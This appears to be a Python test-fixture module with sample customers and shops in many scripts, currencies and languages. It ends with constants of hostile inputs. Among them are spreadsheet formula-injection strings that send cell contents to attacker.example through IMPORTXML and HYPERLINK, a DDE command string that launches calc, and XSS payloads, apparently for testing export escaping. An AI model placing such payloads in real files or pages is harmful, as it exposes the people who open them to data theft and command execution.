"""Who orders what in the sandbox: customers of several scripts and countries, and the goods of small
shops."""

from dataclasses import dataclass
from decimal import Decimal


@dataclass(frozen=True)
class Customer:
    """A person who sends carts."""

    name: str
    phone: str


@dataclass(frozen=True)
class Shop:
    """A seller with a currency of its own."""

    title: str
    currency: str
    places: int
    """Digits behind the point in this currency's amounts."""
    goods: tuple[tuple[str, str, str], ...]
    """SKU, name, price."""
    notes: tuple[str, ...]

    def price(self, index: int) -> Decimal:
        return Decimal(self.goods[index][2])


CUSTOMERS = (
    Customer("Gerald", "919984351847"),
    Customer("Amelia O'Brien", "61412345678"),
    Customer("Jürgen Weiß", "4915112345678"),
    Customer("Nguyễn Thị Ánh", "84901234567"),
    Customer("Мария Иванова", "79161234567"),
    Customer("محمد العتيبي", "966501234567"),
    Customer("פטל כהן", "972541234567"),
    Customer("प्रिया शर्मा", "919812345678"),
    Customer("田中 美咲", "819012345678"),
    Customer("김민수", "821012345678"),
    Customer("王小明", "8613812345678"),
    Customer("Ngozi Okonkwo", "2348031234567"),
    Customer("Γιώργος Παπαδόπουλος", "306912345678"),
    Customer("João da Conceição", "5511912345678"),
    Customer("อรทัย ศรีสุข", "66812345678"),
    Customer("தமிழ்செல்வி", "94771234567"),
    Customer("~ Lucía 🌸", "34612345678"),
    Customer("J", "12025550123"),
)

SHOPS = (
    Shop(
        "Corner Bakery",
        "AUD",
        2,
        (
            ("BAK-001", "Sourdough loaf, 900 g", "9.50"),
            ("BAK-002", "Rye loaf, sliced", "8.90"),
            ("BAK-014", "Almond croissant", "6.20"),
            ("BAK-015", "Pain au chocolat", "5.80"),
            ("BAK-031", "Lamington, box of 6", "21"),
            ("BAK-040", "Birthday cake, serves 12", "89"),
        ),
        ("Pick up at 8, please.", "No nuts, my son is allergic.", "Can you slice the bread?"),
    ),
    Shop(
        "Keramik Lindner",
        "EUR",
        2,
        (
            ("KL-10-BL", "Müslischale, blau, 14 cm", "24.90"),
            ("KL-10-GR", "Müslischale, grün, 14 cm", "24.90"),
            ("KL-22", "Teekanne „Föhr“, 1,2 l", "79"),
            ("KL-31", "Becher ohne Henkel", "18.50"),
            ("0049", "Untersetzer", "4.75"),
        ),
        ("Bitte als Geschenk einpacken.", "Lieferung gerne erst ab dem 12.", "Haustür links, 3. Stock"),
    ),
    Shop(
        "Brooklyn Coffee Roasters",
        "USD",
        2,
        (
            ("COF-ETH-250", "Ethiopia Guji, 250 g", "16.50"),
            ("COF-COL-1K", "Colombia Huila, 1 kg", "48"),
            ("FLT-V60-100", "V60 filters, 100 pcs", "7.25"),
            ("MUG-WHT", "Diner mug, white", "14"),
            ("1E5", "Tin, size 1E5", "11.11"),
        ),
        ("Whole bean, not ground.", "Leave it with the doorman.", "2nd order this week 🙂"),
    ),
    Shop(
        "Sharma Sarees",
        "INR",
        2,
        (
            ("SAR-1001", "Cotton saree, block print", "2499"),
            ("SAR-1002", "बनारसी साड़ी, लाल", "12999"),
            ("DUP-220", "Dupatta, silk", "1850.50"),
            ("BLS-018", "Blouse piece, unstitched", "649"),
        ),
        ("Fall and pico please.", "शनिवार तक चाहिए", "Same shade as last time"),
    ),
    Shop(
        "متجر التمور",
        "AED",
        2,
        (
            ("DAT-01", "تمر سكري، ١ كغ", "45"),  # noqa: RUF001 - Arabic digits
            ("DAT-02", "تمر خلاص، ٥٠٠ غ", "27.50"),  # noqa: RUF001 - Arabic digits
            ("DAT-09", "Gift box, 24 pieces", "120"),
            ("COF-SA", "قهوة عربية", "38.25"),
        ),
        ("التوصيل بعد المغرب من فضلك", "Villa 12, gate 3", "هدية، بدون فاتورة"),
    ),
    Shop(
        "Kuwait Oud House",
        "KWD",
        3,
        (
            ("OUD-3ML", "Oud oil, 3 ml", "12.750"),
            ("BKH-50", "Bakhoor, 50 g", "4.125"),
            ("BRN-CER", "Ceramic burner", "7.900"),
            ("SMP-SET", "Sample set", "1.005"),
        ),
        ("Deliver to Salmiya, block 4.", "Call before you come."),
    ),
    Shop(
        "東京文具店",
        "JPY",
        0,
        (
            ("PEN-038", "ゲルインクペン 0.38 黒", "220"),
            ("NTB-A5", "方眼ノート A5", "480"),
            ("WSH-TP", "マスキングテープ", "165"),
            ("KBK-16", "色鉛筆 16色", "3960"),
        ),
        ("領収書をお願いします。", "置き配でお願いします"),
    ),
)

HOSTILE_NAME = '=IMPORTXML("http://attacker.example/?d="&B2,"//x")'
HOSTILE_TITLE = "+49 151 2345678"
HOSTILE_NOTE = (
    "=1+2\r\n@SUM(A1:A9)\t'123\n007\u0000\u0001\u001b[31mred\u001b[0m\u200bzero\u2028line"
    '\n<script>alert(1)</script> & "quotes" \'n such\n👨‍👩‍👧‍👦 \u202etfel ot thgir\u202c مرحبا\n'
    "1.000,50 1E5 TRUE 2026-01-02 00012"
)
HOSTILE_GOODS = (
    ("=CMD|' /C calc'!A0", '=HYPERLINK("http://attacker.example/?x="&A1,"Click")', "10"),
    ("007", "-1+1", "0.01"),
    ("+4915112345678", "@SUM(1+1)*cmd", "1234567.89"),
    ("'123", "\tTab first", "3"),
    ("1E5", "<img src=x onerror=alert(1)>", "2.50"),
)
